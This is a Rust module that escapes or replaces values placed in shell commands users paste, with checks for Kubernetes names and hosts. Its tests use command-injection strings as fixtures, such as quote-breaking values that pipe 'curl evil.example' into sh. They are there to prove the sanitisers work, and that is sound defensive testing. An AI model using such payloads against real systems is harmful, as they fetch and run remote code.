//! Values in commands that users paste into a shell.

use super::text::visible;

/// The longest value that a command carries: a name of Kubernetes has 253 characters, a value of a setting is shorter.
const LONGEST: usize = 300;

/// A value as it stands between single quotes that are there already. What does not show itself is replaced by the
/// placeholder.
pub(crate) fn within_quotes(value: &str, placeholder: &str) -> String {
    if visible(value) == value { value.replace('\'', r"'\''") } else { placeholder.to_owned() }
}

/// A JSON string as it stands between single quotes that are there already. One that does not show itself is replaced by
/// the placeholder.
pub(crate) fn text(value: &str, placeholder: &str) -> String {
    let shown = if visible(value) == value { value } else { placeholder };
    within_quotes(&serde_json::Value::from(shown).to_string(), "\"\"")
}

/// A JSON list of words as it stands between single quotes that are there already. A word that does not show itself is
/// replaced by a placeholder.
pub(crate) fn list(words: &[&str]) -> String {
    let shown = |word: &&str| {
        if visible(word) == *word { (*word).to_owned() } else { "VALUE".to_owned() }
    };
    let words: Vec<String> = words.iter().map(shown).collect();
    within_quotes(&serde_json::Value::from(words).to_string(), "[]")
}

/// The name of an object or key: letters, digits, `-`, `_` and `.` only, as Kubernetes has them; anything else could not
/// exist and is replaced by the placeholder.
pub(crate) fn name(value: &str, placeholder: &str) -> String {
    let plain = |it: char| it.is_ascii_alphanumeric() || matches!(it, '-' | '_' | '.');
    let known =
        !value.is_empty() && value.len() <= LONGEST && value.chars().all(plain) && !value.starts_with('-');
    if known { value.to_owned() } else { placeholder.to_owned() }
}

/// A host: a DNS name, an IP address, or the path of a socket; anything else is replaced by the placeholder.
pub(crate) fn host(value: &str, placeholder: &str) -> String {
    let plain = |it: char| it.is_ascii_alphanumeric() || matches!(it, '-' | '_' | '.' | ':' | '/');
    let known =
        !value.is_empty() && value.len() <= LONGEST && value.chars().all(plain) && !value.starts_with('-');
    if known { value.to_owned() } else { placeholder.to_owned() }
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;

    #[rstest]
    #[case("a b", "a b")]
    #[case("'; curl evil.example|sh; '", r"'\''; curl evil.example|sh; '\''")]
    #[case("a\u{1b}[2J", "VALUE")]
    fn values_between_quotes(#[case] value: &str, #[case] expected: &str) {
        assert_eq!(within_quotes(value, "VALUE"), expected);
    }

    #[test]
    fn texts() {
        assert_eq!(text("db:5432/a\"b'c 10:00", "TEXT"), r#""db:5432/a\"b'\''c 10:00""#);
        assert_eq!(text("a\u{1b}[2J", "TEXT"), "\"TEXT\"");
    }

    #[test]
    fn words_of_a_list() {
        assert_eq!(list(&["start", "a\"b", "it's"]), r#"["start","a\"b","it'\''s"]"#);
    }

    #[rstest]
    #[case("flagsmith-db", "flagsmith-db")]
    #[case("x;curl$IFS-s$IFS'evil.example'|sh;", "NAME")]
    #[case("-o", "NAME")]
    fn names(#[case] value: &str, #[case] expected: &str) {
        assert_eq!(name(value, "NAME"), expected);
    }

    #[rstest]
    #[case("db.prod.svc", "db.prod.svc")]
    #[case("::1", "::1")]
    #[case("x;curl -s evil.example|sh", "HOST")]
    fn hosts(#[case] value: &str, #[case] expected: &str) {
        assert_eq!(host(value, "HOST"), expected);
    }
}
